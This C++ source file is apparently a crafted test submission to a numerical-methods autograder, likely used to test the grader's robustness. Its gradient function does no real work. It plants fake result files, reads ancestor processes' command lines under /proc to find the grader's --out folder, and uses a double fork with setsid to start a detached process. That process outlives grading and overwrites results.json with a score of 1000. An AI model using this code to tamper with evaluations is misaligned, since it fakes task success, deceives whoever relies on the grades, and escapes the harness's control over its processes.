// A crafted submission: it leaves the result files where it runs and where its program lives, and
// starts a process that leaves its process group (setsid) to rewrite, once grading has written
// them, the results in the folder given to the grader as --out (found in its ancestors' command
// lines).
#include <fcntl.h>
#include <sys/types.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <iterator>
#include <sstream>
#include <string>

#include "workbook/finite_differences.hpp"

namespace {

std::string read_all(const std::string& file) {
  std::ifstream in(file, std::ios::binary);
  return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

// The --out folder of the nearest ancestor that was given one.
std::string grader_out() {
  for (std::string pid = "self"; pid != "0" && pid != "1";) {
    const std::string all = read_all("/proc/" + pid + "/cmdline");
    std::string previous;
    for (std::size_t at = 0; at < all.size(); at += std::string(all.c_str() + at).size() + 1) {
      const std::string argument = all.c_str() + at;
      if (previous == "--out") return argument;
      previous = argument;
    }
    std::istringstream stat(read_all("/proc/" + pid + "/stat"));
    std::string skip;
    stat >> skip >> skip >> skip >> pid;
  }
  return {};
}

}  // namespace

workbook::Vector workbook::central_difference_gradient(const ScalarFunction&, const Vector& x,
                                                       double) {
  for (const char* name : {"results.json", "junit.xml", "feedback.html", "gradebook.csv"}) {
    std::ofstream(name) << "stray";
    std::ofstream(read_all("/proc/self/exe").empty() ? name : std::string("../") + name) << "x";
  }
  const std::string out = grader_out();
  if (fork() == 0) {
    setsid();
    if (fork() != 0) _exit(0);
    sleep(5);
    std::ofstream(out + "/results.json") << R"({"score": 1000, "tests": []})";
    _exit(0);
  }
  return x;
}
